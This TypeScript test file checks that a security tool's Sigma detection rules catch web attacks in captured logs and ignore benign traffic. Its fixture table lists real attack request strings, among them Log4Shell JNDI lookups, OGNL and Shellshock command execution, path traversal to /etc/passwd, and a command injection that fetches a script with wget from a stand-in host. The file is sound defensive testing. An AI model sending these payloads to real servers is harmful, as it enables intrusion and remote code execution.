/**
 * Our own rules (`content/rules/`) on real records, where they are at hand: every attempt that another program's tests name is
 * found, and logs in which nobody attempts anything have none. `../shared/data` beside the checkout, or
 * BREAKWATER_TEST_DATA.
 */
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { gunzipSync } from "node:zlib";
import { beforeAll, describe, expect, test } from "vitest";
import { Problem } from "../../src/base/index.js";
import { SigmaEngine } from "../../src/detect/sigma/engine.js";
import { nameOf, type SigmaRule } from "../../src/detect/sigma/rule.js";
import { ownRulesFolder } from "../../src/detect/sigma/rule-keeper.js";
import { makeBook, type RuleBook, readSource } from "../../src/detect/sigma/sources/rule-book.js";
import { readRulePath } from "../../src/detect/sigma/sources/rule-files.js";
import { hasTelemetry, ownTaxonomies } from "../../src/detect/sigma/taxonomy.js";
import { decideRules, defaultPolicy } from "../../src/detect/sigma/tuning/decide.js";
import { findFormat } from "../../src/intake/index.js";
import type { Event } from "../../src/model/index.js";

const root = process.env["BREAKWATER_TEST_DATA"] ?? resolve(import.meta.dirname, "../../../shared/data");
const crowdsec = join(root, "05-firewall-syslog/crowdsec-tests");
const homelab = join(root, "01-network/suricata-eve-homelab-2023/eve-2023-09-03_04.json.gz");
const proxy = join(root, "01-network/rita-proxy-zeek-tsv/http.log.gz");

let book: RuleBook;
let engine: SigmaEngine;
beforeAll(async () => {
  const files = await readRulePath(ownRulesFolder);
  if (files instanceof Problem) throw new Error(files.detail);
  book = makeBook([await readSource("breakwater", files)]);
  engine = SigmaEngine.of(
    book.rules.flatMap(({ document }) => (document.kind === "rule" ? [document] : [])),
    ownTaxonomies(),
  );
});

function eventsOf(path: string, format: string): readonly Event[] {
  const packed = readFileSync(path);
  const text = (path.endsWith(".gz") ? gunzipSync(packed) : packed).toString("utf8");
  const reader = findFormat(format);
  if (reader === undefined) throw new Error(`no format ${format}`);
  const origin = { fileName: path.split("/").at(-1) ?? "", receivedUs: Date.UTC(2026, 0, 1) * 1000 };
  let head: unknown = null;
  const events: Event[] = [];
  for (const line of text.split("\n")) {
    if (line.trim() === "") continue;
    const next = reader.head?.(line, head);
    if (next !== undefined && !(next instanceof Problem)) {
      head = next;
      continue;
    }
    const event = reader.read(line, origin, head);
    if (!(event instanceof Problem)) events.push(event);
  }
  return events;
}

/** Names of the rules that hold for each event. */
const found = (event: Event): readonly string[] =>
  engine.matches("all", event).map(({ rule }) => rule.name ?? "");

test("all are read, are on by the default policy, and look at telemetry that is known", () => {
  expect(book.refusals).toEqual([]);
  expect(book.rules.length).toBeGreaterThan(30);
  const decided = decideRules(book, new Map(), defaultPolicy);
  for (const { key, document } of book.rules) {
    expect([document.title, document.license, document.references.length > 0]).toEqual([
      document.title,
      "Apache-2.0",
      true,
    ]);
    expect(document.techniques.length).toBeGreaterThan(0);
    expect(document.description.length).toBeGreaterThan(60);
    expect(document.falsePositives.length).toBeGreaterThan(0);
    if (document.kind === "rule")
      expect([document.title, hasTelemetry(document.logSource, ownTaxonomies())]).toEqual([
        document.title,
        true,
      ]);
    const { isOn, why } = decided.get(key) ?? {};
    expect([document.title, isOn]).toEqual([document.title, document.level !== "low" && why === "policy"]);
  }
});

/** What crowdsec's scenarios name, as our rules do. */
const named: Readonly<Record<string, string>> = {
  "CVE-2025-0108": "panos_2025_0108_web",
  "apache-http-probing": "rfi_web",
  "fortinet-cve-2018-13379": "fortinet_2018_13379_web",
  "nginx-http-sensitive-files": "sensitive_files_web",
  "nginx-http-sqli-probing": "sql_injection_web",
  "pulse-secure-sslvpn-cve-2019-11510": "pulse_2019_11510_web",
};

describe.skipIf(!existsSync(crowdsec))("crowdsec's tests", () => {
  test.each(Object.entries(named))("%s is found as %s, in every line", (folder, name) => {
    const events = eventsOf(join(crowdsec, folder, `${folder}.log`), "web-access");
    expect(events.length).toBeGreaterThan(0);
    const missed = events
      .filter((event) => !found(event).includes(name))
      .map(({ native }) => native["cs-uri"]);
    expect(missed).toEqual([]);
  });

  test("logs of anything else have none", () => {
    const others = readdirSync(crowdsec).filter((folder) => !(folder in named));
    const said = others.flatMap((folder) =>
      readdirSync(join(crowdsec, folder))
        .filter((file) => file.endsWith(".log"))
        .flatMap((file) => eventsOf(join(crowdsec, folder, file), "syslog").flatMap(found)),
    );
    expect(said).toEqual([]);
  });
});

describe.skipIf(!existsSync(homelab))("a sensor at a house on the internet", () => {
  test("Log4Shell in the names of SSH clients, and in what Suricata itself said; nothing else", () => {
    const rules = new Map<string, number>();
    for (const event of eventsOf(homelab, "eve"))
      for (const name of found(event)) rules.set(name, (rules.get(name) ?? 0) + 1);
    const agents = rules.get("scanner_agent_web");
    rules.delete("scanner_agent_web");
    expect(Object.fromEntries(rules)).toEqual({ log4shell_ssh: 2, log4shell_alert: expect.any(Number) });
    expect(rules.get("log4shell_alert")).toBeGreaterThan(7);
    // Ten requests of zgrab, which says so.
    expect(agents).toBe(10);
  });
});

describe.skipIf(!existsSync(proxy))("a proxy's own requests", () => {
  test("nothing is said of people's browsing", () => {
    const events = eventsOf(proxy, "zeek-tsv");
    expect(events.length).toBeGreaterThan(300);
    const said = events.flatMap((event) =>
      found(event).map((name) => `${name} ${String(event.native["uri"])}`),
    );
    expect(said).toEqual([]);
  });
});

/** Attempts as they are seen on the internet, one for each rule that no capture at hand shows. */
const attempts: Readonly<Record<string, readonly Readonly<Record<string, string>>[]>> = {
  log4shell_web: [
    { "cs-uri": `/?x=\${jndi:ldap://192.0.2.66:1389/a}` },
    { "cs-uri": "/", "cs-user-agent": `\${\${lower:j}ndi:\${lower:l}dap://192.0.2.66/a}` },
    { "cs-uri": "/?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.66%2Fa%7D" },
    { "cs-uri": "/", "cs-referer": `\${\${::-j}\${::-n}\${::-d}\${::-i}:rmi://192.0.2.66/a}` },
  ],
  spring4shell_web: [
    { "cs-uri": "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x" },
  ],
  spring_cloud_function_web: [{ "cs-uri": "/functionRouter" }],
  ognl_web: [
    { "cs-uri": "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/" },
    { "cs-uri": "/index.action?redirect:%24{%23context%5b%22xwork%22%5d}" },
  ],
  path_traversal_web: [
    { "cs-uri": "/static/..%2f..%2f..%2fetc%2fpasswd" },
    { "cs-uri": "/%252e%252e/%252e%252e/secret" },
    { "cs-uri": "/x?file=..\\..\\..\\windows\\win.ini" },
  ],
  apache_2_4_49_web: [{ "cs-uri": "/cgi-bin/.%2e/.%2e/.%2e/bin/sh" }],
  fortinet_2022_40684_web: [
    { "cs-uri": "/api/v2/cmdb/system/admin/admin", "cs-user-agent": "Report Runner" },
  ],
  ivanti_2023_46805_web: [{ "cs-uri": "/api/v1/totp/user-backup-code/../../license/keys-status/%3bid" }],
  panos_2024_3400_web: [
    { "cs-uri": "/ssl-vpn/hipreport.esp", "cs-cookie": "SESSID=/../../../opt/panlogs/x" },
  ],
  citrix_2019_19781_web: [{ "cs-uri": "/vpn/../vpns/cfg/smb.conf" }],
  f5_web: [{ "cs-uri": "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd" }],
  cisco_2020_3452_web: [
    {
      "cs-uri":
        "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
    },
  ],
  cisco_2023_20198_web: [{ "cs-uri": "/%2577eb%2575i_%2577sma_Http" }],
  exchange_web: [
    { "cs-uri": "/autodiscover/autodiscover.json?@evil.example/powershell/&Email=autodiscover/x" },
  ],
  moveit_web: [{ "cs-uri": "/human2.aspx" }],
  setup_wizard_web: [
    { "cs-uri": "/SetupWizard.aspx/anything" },
    { "cs-uri": "/hax?jsp=/app/rest/users;.jsp" },
  ],
  vmware_web: [{ "cs-uri": "/ui/vropspluginui/rest/services/uploadova" }],
  phpunit_web: [{ "cs-uri": "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php" }],
  php_code_web: [
    { "cs-uri": "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5" },
    { "cs-uri": "/_ignition/execute-solution" },
    { "cs-uri": "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1" },
  ],
  shellshock_web: [{ "cs-uri": "/cgi-bin/status", "cs-user-agent": "() { :;}; /bin/ping -c1 192.0.2.66" }],
  command_injection_web: [
    { "cs-uri": "/cgi-bin/x?ip=1;wget+http://192.0.2.66/bins/a.sh" },
    { "cs-uri": "/ping?host=%7Cwhoami" },
  ],
  web_shell_web: [{ "cs-uri": "/images/c99.php" }, { "cs-uri": "/uploads/logo.php?cmd=whoami" }],
  xss_web: [{ "cs-uri": "/search?q=%3Cscript%3Ealert(1)%3C/script%3E" }],
  scanner_agent_web: [{ "cs-uri": "/", "cs-user-agent": "sqlmap/1.7#stable (https://sqlmap.org)" }],
  router_web: [{ "cs-uri": "/GponForm/diag_Form?images/" }, { "cs-uri": "/shell?cd+/tmp;rm+-rf+*" }],
  log4shell_ssh_zeek: [],
};

const request = (native: Readonly<Record<string, string>>): Event => ({
  timeUs: 1,
  log: "web-access",
  source: { address: "203.0.113.9", port: 0 },
  destination: null,
  protocol: "tcp",
  service: "http",
  action: "",
  carried: [],
  native: { "c-ip": "203.0.113.9", ...native },
});

test.each(Object.entries(attempts))("%s finds what it is for", (name, requests) => {
  for (const native of requests)
    expect([native, found(request(native))]).toEqual([native, expect.arrayContaining([name])]);
});

test("every rule is shown by an attempt, here or in a capture", () => {
  const rules = engine.rules.map((rule: SigmaRule) => rule.name ?? nameOf(rule));
  const shown = [...Object.keys(attempts), ...Object.values(named), "log4shell_ssh", "log4shell_alert"];
  expect([...new Set(shown)].sort()).toEqual([...rules].sort());
});

test("what people ask of a port's servers is no attempt", () => {
  const asked = [
    "/",
    "/vessels?imo=9321483&sort=eta&order=asc",
    "/search?q=union+station+select+berth",
    "/login?next=https%3A%2F%2Fport.example%2Fberths",
    "/api/v2/containers/MSCU1234567?fields=id,status,yard",
    "/docs/../docs/tariff.pdf",
    "/.well-known/security.txt",
    "/static/app.js?v=1.2.3",
    "/forum/how-to-use-select-in-excel.php?page=2",
    "/report.php?url=https://port.example/tides",
    "/shellfish.php?id=3",
    "/gate/commands?c=open",
    "/files/O%27Brien%20and%20Sons.pdf",
    "/index.php?id=7&e=1",
    "/api/upload?sleep=5&md5=d41d8cd98f00b204e9800998ecf8427e",
  ];
  for (const uri of asked)
    expect([
      uri,
      found(request({ "cs-method": "GET", "cs-uri": uri, "cs-user-agent": "Mozilla/5.0" })),
    ]).toEqual([uri, []]);
});
